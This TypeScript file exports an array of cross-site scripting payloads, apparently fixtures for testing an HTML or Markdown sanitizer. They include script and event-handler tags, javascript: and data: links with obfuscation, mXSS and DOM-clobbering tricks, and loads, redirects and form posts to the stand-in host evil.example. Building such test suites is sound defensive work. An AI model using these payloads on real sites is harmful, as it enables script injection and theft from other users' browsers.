/**
 * Texts that people could write to run code in another person's browser. Each would call `pwned` or load from
 * evil.example.
 */
export const attacks = [
  '<script>pwned(1)</script>',
  '<img src=x onerror=pwned(2)>',
  '<svg onload=pwned(3)></svg>',
  '<svg><script>pwned(4)</script></svg>',
  '<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
  '<a href="javascript:pwned(6)">click</a>',
  '[click](javascript:pwned(7))',
  '[click](JaVaScRiPt:pwned(8))',
  '[click](java\tscript:pwned(9))',
  '[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgxMCk8L3NjcmlwdD4=)',
  '[click](vbscript:pwned(11))',
  '![x](javascript:pwned(12))',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="pwned(14)](x)',
  '[x](https://evil.example/" onmouseover="pwned(15))',
  '<details open ontoggle=pwned(16)>x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned(17)></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><input name=a autofocus onfocus=pwned(18)></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '&#60;script&#62;pwned(23)&#60;/script&#62; <scr<script>ipt>pwned(23)</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '```html\n<script>pwned(25)</script>\n```',
  '<x id=config><y name=portal></y></x><a id=defaultView></a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
] as const
